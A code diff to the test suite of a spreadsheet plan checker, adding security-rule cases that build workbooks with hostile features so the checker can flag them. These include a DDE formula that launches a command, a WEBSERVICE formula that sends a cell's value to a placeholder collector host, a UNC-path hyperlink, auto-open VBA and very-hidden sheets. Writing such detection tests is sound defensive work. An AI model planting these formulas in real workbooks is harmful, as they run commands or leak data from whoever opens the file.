@@ -21,6 +21,7 @@ from xl_campaign.core.rules import RULES, run_rules
 from xl_campaign.io.reader import read_plan
 
 from . import rule_fixtures as F
+from . import sec_fixtures as S
 
 Expected = list[tuple[str, str | None, str | None]]
 
@@ -33,6 +34,8 @@ class Case:
     plain: dict[str, list[list[Any]]] | None = None  # a workbook without the template
     expected: Expected | None = None
     lang: str = "en"
+    package: Callable[[S.Package], None] | None = None  # zip-part edits (tests/sec_fixtures.py)
+    suffix: str = ".xlsx"
 
 
 def _set(sheet: str, cell: str, value: Any) -> Callable[[Any], None]:
@@ -67,16 +70,48 @@ def _remove_sheet(name: str) -> Callable[[Any], None]:
     return edit
 
 
+def _link(sheet: str, cell: str, target: str) -> Callable[[Any], None]:
+    def edit(wb: Any) -> None:
+        wb[sheet][cell].hyperlink = target
+    return edit
+
+
+def _hidden_sheet(name: str, state: str, a1: str | None) -> Callable[[Any], None]:
+    def edit(wb: Any) -> None:
+        ws = wb.create_sheet(name)
+        ws["A1"] = a1 or "kept out of sight"
+        ws.sheet_state = state
+    return edit
+
+
 XML_MAP = (b'<MapInfo xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" SelectionNamespaces="">'
            b'<Schema ID="Schema1"><xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
            b'<xs:import schemaLocation="http://example.invalid/plan.xsd"/></xs:schema></Schema></MapInfo>')
 
 CASES: dict[str, Case] = {
     # --- XF rules that read what the package scan noted (the file-level XF codes are in test_rules_files.py)
-    "XF020": Case(parts={"xl/xmlMaps.xml": XML_MAP}, expected=[("XF020", None, None)]),
     "XF021": Case(book=_set("Review", "A600000", "x"), expected=[("XF021", "Review", "A600000")]),
     "XF022": Case(book=_protect, expected=[("XF022", None, None)]),
     "XF023": Case(book=_epoch_1904, expected=[("XF023", None, None)]),
+    # --- SEC (tests/test_sec.py builds every kind and variant; one of each here)
+    "SEC001": Case(book=_set("Tasks", "B4", "=cmd|' /C calc'!A0"), expected=[("SEC001", "Tasks", "B4")]),
+    "SEC002": Case(package=lambda p: S.with_vba(S.vba_project(S.AUTO_OPEN))(p), suffix=".xlsm",
+                   expected=[("SEC002", None, None)]),
+    "SEC003": Case(package=lambda p: S.with_vba(S.xlwings_vba())(p), suffix=".xlsm",
+                   expected=[("SEC003", None, None)]),
+    "SEC004": Case(package=S.macro_sheet, suffix=".xlsm", expected=[("SEC004", "Macro1", None)]),
+    "SEC005": Case(book=_set("Budget", "L4", '=_xlfn.WEBSERVICE("https://collector.example/?b="&J13)'),
+                   expected=[("SEC005", "Budget", "L4")]),
+    "SEC006": Case(parts={"xl/xmlMaps.xml": XML_MAP}, expected=[("SEC006", None, None)]),
+    "SEC007": Case(package=S.connections, expected=[("SEC007", None, None), ("SEC007", None, None)]),
+    "SEC008": Case(package=S.power_query, expected=[("SEC008", None, None)]),
+    "SEC009": Case(package=S.embedded_workbook("Review"), expected=[("SEC009", "Review", None)]),
+    "SEC010": Case(package=S.activex_button("Tasks"), expected=[("SEC010", "Tasks", None)]),
+    "SEC011": Case(book=_link("Tasks", "N4", "\\\\203.0.113.9\\share\\plan.lnk"),
+                   expected=[("SEC011", "Tasks", "N4")]),
+    "SEC012": Case(book=_hidden_sheet("data_bak", "veryHidden", None), expected=[("SEC012", "data_bak", None)]),
+    "SEC013": Case(book=_hidden_sheet("calc", "hidden", '=_xlfn.WEBSERVICE("http://x.example/")'),
+                   expected=[("SEC013", "calc", "A1")]),
     # --- WB
     "WB001": Case(plain={"Data": [["Budget", "Spend", "Ratio"], [100, 20, 0.2]]}, expected=[("WB001", None, None)]),
     "WB002": Case(book=_remove_sheet("Channels"), expected=[("WB002", None, None)]),
@@ -84,7 +119,7 @@ CASES: dict[str, Case] = {
                          "Tasks": [["Task", "Start", "End"], ["Posters", date(2024, 5, 1), date(2024, 5, 2)]]},
                   expected=[("WB003", "Tasks", None)]),
     "WB004": Case(book=_set("Budget", "G4", "#DIV/0!"), expected=[("WB004", "Budget", "G4")]),
-    "WB005": Case(expected=[("WB005", "Budget", "J4")]),
+    "WB005": Case(expected=[("WB005", "Tasks", "AL1")]),  # the first formula: the timeline's status date
     "WB006": Case(lambda c: F.row(c, "budget", 0, planned="80,000"), expected=[("WB006", "Budget", "D4")]),
     "WB007": Case(lambda c: F.task(c, "T03", start="2024/05/09"), expected=[("WB007", "Tasks", "G6")]),
     "WB008": Case(lambda c: F.task(c, "T14", status="Pending"), expected=[("WB008", "Tasks", "I17")]),
@@ -181,7 +216,7 @@ CASES: dict[str, Case] = {
 
 
 def findings_of(case: Case, code: str, tmp_path: Path) -> Expected:
-    path = tmp_path / f"{code}.xlsx"
+    path = tmp_path / f"{code}{case.suffix}"
     if case.plain is not None:
         F.plain_book(path, case.plain)
     else:
@@ -189,6 +224,8 @@ def findings_of(case: Case, code: str, tmp_path: Path) -> Expected:
         if case.edit is not None:
             case.edit(content)
         F.write(content, path, case.book, case.parts)
+        if case.package is not None:
+            S.edit(path, case.package)
     plan = read_plan(path)
     found = run_rules(plan, select=[code])
     # every message and hint exists in both languages
